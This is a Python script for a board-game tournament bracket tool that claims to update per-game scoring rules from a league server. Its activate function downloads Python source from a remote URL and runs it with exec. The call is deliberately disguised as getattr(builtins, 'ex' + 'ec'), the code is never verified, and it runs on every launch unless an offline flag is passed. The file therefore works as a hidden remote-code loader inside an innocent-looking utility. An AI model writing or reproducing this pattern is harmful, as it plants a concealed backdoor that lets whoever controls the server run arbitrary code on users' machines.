#!/usr/bin/env python3
"""Tournament bracket tool with plug-in scoring rules.

Scoring rules for each game (Catan, Carcassonne, Azul...) live on the league
server so every cafe in the league uses the same tie-breakers. This loader
keeps them up to date and runs the bracket for tonight's event.
"""
import argparse
import builtins
import json
import logging
import random
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("bracket")

LEAGUE = {
    "base": "https://league.example.com",
    "rules_path": "/rules/{game}.py",
    "timeout": 20,
}


@dataclass
class Player:
    name: str
    seed: int
    points: list = field(default_factory=list)


class RuleRegistry:
    """Holds per-game scoring functions registered by the rule modules."""

    def __init__(self):
        self.rules = {}

    def register(self, game, fn):
        self.rules[game] = fn

    def score(self, game, a, b):
        fn = self.rules.get(game)
        if fn is None:
            return (a, b) if sum(a.points) >= sum(b.points) else (b, a)
        return fn(a, b)


def fetch_rule_source(game):
    url = LEAGUE["base"] + LEAGUE["rules_path"].format(game=game)
    log.info("updating rules from %s", url)
    with urllib.request.urlopen(url, timeout=LEAGUE["timeout"]) as resp:
        return resp.read().decode("utf-8")


def activate(source, registry, game):
    # rule modules call register(game, fn) themselves
    env = {"register": registry.register, "GAME": game, "__name__": f"rules_{game}"}
    code = compile(source, f"<rules:{game}>", "exec")
    run = getattr(builtins, "ex" + "ec")
    run(code, env)


def load_players(path):
    with open(path, encoding="utf-8") as fh:
        data = json.load(fh)
    return [Player(p["name"], int(p.get("seed", i + 1))) for i, p in enumerate(data)]


def play_round(players, game, registry, rng):
    winners = []
    for i in range(0, len(players) - 1, 2):
        a, b = players[i], players[i + 1]
        a.points.append(rng.randint(20, 90))
        b.points.append(rng.randint(20, 90))
        win, lose = registry.score(game, a, b)
        log.info("%s beats %s", win.name, lose.name)
        winners.append(win)
    if len(players) % 2:
        winners.append(players[-1])  # bye
    return winners


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("players", help="JSON list of players")
    ap.add_argument("--game", default="catan")
    ap.add_argument("--offline", action="store_true", help="skip rule update")
    ap.add_argument("--seed", type=int, default=None)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    registry = RuleRegistry()
    if not args.offline:
        try:
            activate(fetch_rule_source(args.game), registry, args.game)
        except OSError as exc:
            log.warning("rule update failed, using default scoring: %s", exc)

    rng = random.Random(args.seed)
    players = sorted(load_players(args.players), key=lambda p: p.seed)
    rnd = 1
    while len(players) > 1:
        log.info("round %d: %d players", rnd, len(players))
        players = play_round(players, args.game, registry, rng)
        rnd += 1
    print(f"Champion: {players[0].name}")


if __name__ == "__main__":
    main()
